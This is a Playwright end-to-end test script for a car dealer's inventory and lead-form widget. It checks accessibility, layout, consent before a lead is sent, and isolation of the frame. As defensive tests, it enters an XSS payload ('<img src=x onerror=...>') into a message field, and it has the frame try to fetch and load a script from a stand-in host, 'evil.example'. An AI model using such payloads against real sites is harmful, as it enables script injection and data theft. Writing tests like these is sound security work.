// Opens the page of the dealer's tools in Debian's Chromium, in a host made of the official parts: gallery, comparison,
// details and a lead that the person's click sends, wide and narrow, light and dark. axe-core must find no violation,
// nothing may be wider than the screen, words of a feed must not run as script, and the frame must not reach any
// network but that of photos.
//
//   node walk.js MCP_URL NAME [FOLDER_FOR_SCREENSHOTS]
import { mkdirSync, readFileSync } from "node:fs";
import { createServer, request } from "node:http";
import { createRequire } from "node:module";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import { chromium } from "playwright-core";

const [target, name, shots] = process.argv.slice(2);
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
const SIZES = [["wide", 1280, 900], ["narrow", 390, 844]];
const PHOTO = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 300"><rect width="400" height="300" fill="#7a9cc6"/>
<path d="M40 200h320v40H40zM100 200l40-70h120l40 70z" fill="#23405f"/></svg>`;

let passed = 0;
let failed = 0;
function check(what, isSo, detail = "") {
  if (isSo) passed += 1;
  else failed += 1;
  if (!isSo) console.log(`FAIL  ${name}: ${what} ${detail}`);
}

const { outputFiles } = await build({
  entryPoints: [fileURLToPath(new URL("host.js", import.meta.url))],
  bundle: true, format: "esm", platform: "browser", write: false,
});
const server = createServer((incoming, answer) => {
  if (incoming.url === "/host.js") {
    answer.writeHead(200, { "Content-Type": "text/javascript" }).end(outputFiles[0].contents);
  } else if (incoming.url === "/mcp") {
    // A host calls servers from its own machine, not from a web page.
    const headers = { ...incoming.headers, host: new URL(target).host };
    for (const header of ["origin", "referer"]) delete headers[header];
    const passed = request(target, { method: incoming.method, headers }, (reply) => {
      answer.writeHead(reply.statusCode, reply.headers);
      reply.pipe(answer);
    });
    incoming.pipe(passed);
  } else {
    answer.writeHead(200, { "Content-Type": "text/html" });
    answer.end(`<!doctype html><html lang="en"><title>Host</title><style>body{margin:0}iframe{border:0;width:100%;height:600px}</style>
      <main></main><script type="module" src="/host.js"></script></html>`);
  }
});
await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
const host = `http://127.0.0.1:${server.address().port}/`;

const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });

for (const [size, width, height] of SIZES) {
  for (const theme of ["light", "dark"]) {
    const context = await browser.newContext({ viewport: { width, height } });
    const page = await context.newPage();
    const errors = [];
    const reached = new Set();
    page.on("pageerror", (error) => errors.push(String(error)));
    page.on("console", (message) => message.type() === "error" && errors.push(message.text()));
    await page.route(/^https:/, (route) => {
      const kind = route.request().resourceType();
      reached.add(`${kind} ${new URL(route.request().url()).hostname}`);
      return kind === "image" ? route.fulfill({ contentType: "image/svg+xml", body: PHOTO }) : route.abort();
    });
    await page.goto(host);
    await page.waitForFunction("window.openApp");
    const view = () => page.frames().find((frame) => frame !== page.mainFrame());
    const look = async (step) => {
      const frame = view();
      await frame.waitForTimeout(150);
      const wider = await frame.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth");
      check(`${step} ${size} ${theme} fits the width`, wider <= 0, `by ${wider}`);
      await frame.evaluate(axe);
      const found = await frame.evaluate("axe.run(document, { resultTypes: ['violations'] })");
      const rules = found.violations.map((rule) => `${rule.id}: ${rule.nodes.map((node) => node.target).join(" ")}`);
      check(`${step} ${size} ${theme} has no violation of axe`, rules.length === 0, rules.join("; "));
      if (shots) {
        mkdirSync(shots, { recursive: true });
        await page.screenshot({ path: join(shots, `${name}-${step}-${size}-${theme}.png`), fullPage: true });
      }
    };
    const heading = (text) => view().locator("#title", { hasText: text }).waitFor({ timeout: 10_000 });

    const search = { pagination: { limit: 6 } };
    // Two of the four courses are in a document of the host.
    const isWrapped = (size === "narrow") === (theme === "dark");
    await page.evaluate((given) => openApp("aap_inventory_search", ...given), [search, theme, isWrapped]);
    await view().locator("article").first().waitFor();
    check("six vehicles are shown", (await view().locator("article").count()) === 6);
    const first = await view().locator("article").first().innerText();
    check("a card has price, mileage and stock", /\$[\d,]+/.test(first) && /Stock /.test(first), first);
    await look("gallery");

    await view().getByRole("button", { name: "More" }).click();
    await view().locator("#note", { hasText: /^7 to/ }).waitFor();
    await view().getByRole("button", { name: "Earlier" }).click();
    await view().locator("#note", { hasText: /^1 to/ }).waitFor();

    const boxes = view().getByRole("checkbox");
    for (let place = 0; place < 4; place += 1) await boxes.nth(place).check();
    // The fifth is refused, because four fit beside each other.
    await boxes.nth(4).click();
    check("at most four are compared", !(await boxes.nth(4).isChecked()));
    await view().getByRole("button", { name: "Compare 4" }).click();
    await heading("Compare");
    await look("compare");
    await view().evaluate("window.scrollTo(0, 200)");

    await view().getByRole("button", { name: "Details" }).first().click();
    await view().getByRole("button", { name: "Contact the dealer" }).waitFor();
    check("a new view begins at its top", (await view().evaluate("window.scrollY")) === 0);
    await look("details");
    const open = view().getByRole("button", { name: "Open the dealer's page" });
    if ((await open.count()) > 0) {
      await open.click();
      const links = await page.evaluate("hostLog.links");
      check("a link is opened by the host", links.length === 1 && links[0].startsWith("https://"), links);
    }

    await view().getByRole("button", { name: "Contact the dealer" }).click();
    await view().getByLabel("First name").fill("Ada");
    await view().getByLabel("Last name").fill(`Lovelace ${size} ${theme}`);
    await view().getByRole("button", { name: "Continue" }).click();
    await view().locator("[role=alert]", { hasText: "Choose how" }).waitFor();
    await view().getByLabel("E-mail", { exact: true }).check();
    await view().getByLabel("E-mail address").fill("ada@example");
    await view().getByRole("button", { name: "Continue" }).click();
    await view().locator("[role=alert] li").first().waitFor();
    await look("problems");
    await view().getByLabel("E-mail address").fill(`ada.${size}.${theme}@example.com`);
    await view().getByLabel("Message", { exact: true }).fill("<img src=x onerror='window.broken=1'> Is it still there?");
    await look("form");
    await view().getByRole("button", { name: "Continue" }).click();
    await heading("Before anything is sent");
    await view().getByRole("button", { name: "Do not send" }).click();
    await view().getByRole("button", { name: "Contact the dealer" }).click();
    const kept = await view().getByLabel("E-mail address").inputValue();
    check("a lead that was not sent need not be typed again", kept === `ada.${size}.${theme}@example.com`, kept);
    await view().getByRole("button", { name: "Continue" }).click();
    await heading("Before anything is sent");
    await look("consent");
    const sent = () => page.evaluate("hostLog.tools.filter((call) => call.arguments.confirmation).length");
    await view().evaluate("document.querySelector('button.main').click()");
    check("no program agrees for the person", (await sent()) === 0);
    await view().getByRole("button", { name: "I agree, send it" }).click();
    await heading("Sent");
    await look("receipt");
    check("the click sent one lead", (await sent()) === 1);
    const lead = await page.evaluate("hostLog.tools.at(-1).result.structuredContent.data.status");
    check("the dealer received it", lead === "received", lead);

    check("no word of others ran", (await view().evaluate("window.broken")) === undefined);
    const escapes = await view().evaluate(`Promise.all([
      fetch("https://evil.example/").then(() => "fetch", () => ""),
      new Promise((done) => { const s = document.createElement("script"); s.src = "https://evil.example/x.js";
        s.onload = () => done("script"); s.onerror = () => done(""); document.body.append(s); }),
      Promise.resolve().then(() => { try { return window.top.document.title; } catch { return ""; } }),
    ])`);
    check("the frame reaches nothing else", escapes.every((escape) => escape === ""), escapes);
    const others = [...reached].filter((request) => !request.startsWith("image "));
    check("only photos were loaded", others.length === 0, others);
    // The official client asks for a stream first, which these servers do not have (405).
    const real = errors.filter((error) => !/evil\.example|Content Security Policy|405/.test(error));
    check("no error was logged", real.length === 0, real.join("\n"));
    const sizes = await page.evaluate("hostLog.sizes.length");
    check("the host learns the size", sizes > 0);
    await context.close();
  }
}

await browser.close();
server.close();
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
